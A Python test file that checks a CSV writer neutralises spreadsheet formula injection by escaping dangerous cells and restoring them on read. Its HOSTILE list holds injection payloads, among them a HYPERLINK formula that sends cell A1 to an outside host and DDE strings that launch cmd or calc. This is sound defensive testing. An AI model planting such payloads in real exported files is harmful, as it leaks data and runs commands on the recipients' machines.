"""Proves that no cell of a CSV file is run by a spreadsheet, that numbers stay numbers, and that reading gives back the text."""

from __future__ import annotations

import csv
from pathlib import Path

import hypothesis
import numpy as np
import pandas as pd
import pytest
from hypothesis import strategies

from dagman.encoder.feature_file import write_refused
from dagman.evaluation.results import PREDICTION_COLUMNS, write_predictions
from dagman.evaluation.splits import Split, read_splits, write_splits
from dagman.records.csv_file import protect_cell, read_csv, restore_cell, restore_frame, write_csv, write_frame
from dagman.tables.table import read_table

HOSTILE = [
    '=HYPERLINK("http://example.org?x="&A1,"ct")',
    "+1234|' /C calc'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=",
]
SAFE = ["", "-3.5", "+7", "-1e-3", "-.5", "P-1f2e", "a=b", "o'neill", "'quoted'", " =1"]


def read_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_behind_an_apostrophe_and_read_back(text):
    assert protect_cell(text) == f"'{text}"
    assert restore_cell(protect_cell(text)) == text


@pytest.mark.parametrize("text", SAFE)
def test_numbers_and_other_text_are_written_as_they_are(text):
    assert protect_cell(text) == text


@hypothesis.given(strategies.text(alphabet="'=+-@\t\r\n1ae. ", max_size=8))
def test_reading_undoes_writing_for_any_text_and_no_cell_starts_a_formula(text):
    written = protect_cell(text)
    assert restore_cell(written) == text
    assert not written.startswith(("=", "@", "\t", "\r", "\n"))
    assert not written.startswith(("+", "-")) or np.isfinite(float(written))


def test_a_frame_is_written_as_pandas_writes_it_but_for_formulas(tmp_path):
    frame = pd.DataFrame(
        {
            "item": ["a", "=b", None],
            "=label": [1, None, -3],
            "mixed": [1, "-2", "x"],
            "value": np.array([0.1, np.nan, -np.inf]),
            "single": np.array([0.1, -0.2, 3], dtype=np.float32),
            "seen": [True, False, True],
        }
    )
    write_frame(tmp_path / "ours.csv", frame)
    expected = frame.copy()
    expected.loc[1, "item"] = "'=b"
    expected.rename(columns={"=label": "'=label"}).to_csv(tmp_path / "theirs.csv", index=False)
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "theirs.csv").read_bytes()
    back = restore_frame(pd.read_csv(tmp_path / "ours.csv"))
    assert list(back.columns) == list(frame.columns)
    assert back["item"][1] == "=b"


def test_rows_are_written_and_read_back(tmp_path):
    write_csv(tmp_path / "rows.csv", ["source", "reason"], [("=a", "x\ny"), ("b, c", None), ("d", float("nan"))])
    assert read_csv(tmp_path / "rows.csv") == [
        {"source": "=a", "reason": "x\ny"},
        {"source": "b, c", "reason": ""},
        {"source": "d", "reason": ""},
    ]
    assert read_cells(tmp_path / "rows.csv")[1][0] == "'=a"


def test_results_and_tables_with_formulas_as_names_read_as_they_were_written(tmp_path):
    row = dict.fromkeys(PREDICTION_COLUMNS, 0) | {"item": "=i", "patient": "@p", "label": "-neg"}
    write_predictions(tmp_path, [row])
    (written,) = read_cells(tmp_path / "predictions.csv")[1:]
    assert {"'=i", "'@p", "'-neg"} <= set(written)
    splits = [Split(repeat=0, fold=0, train=np.array([0]), val=np.array([], dtype=int), test=np.array([1]))]
    write_splits(tmp_path / "splits.csv", splits, ["=i", "+j"], ["@p", "q"])
    assert [list(one.test) for one in read_splits(tmp_path / "splits.csv", ["=i", "+j"])] == [[1]]
    write_refused(tmp_path / "refused.csv", [("=scan.nii.gz", "is empty")])
    assert read_cells(tmp_path / "refused.csv")[1] == ["'=scan.nii.gz", "is empty"]
    for name in ("a.nii.gz", "b.nii.gz"):
        (tmp_path / name).touch()
    (tmp_path / "table.csv").write_text("scan,patient,label\na.nii.gz,'=p,'+x\nb.nii.gz,q,y\n")
    table = read_table(tmp_path / "table.csv", label="label")
    assert [(item.patient, item.label) for item in table.items] == [("=p", "+x"), ("q", "y")]
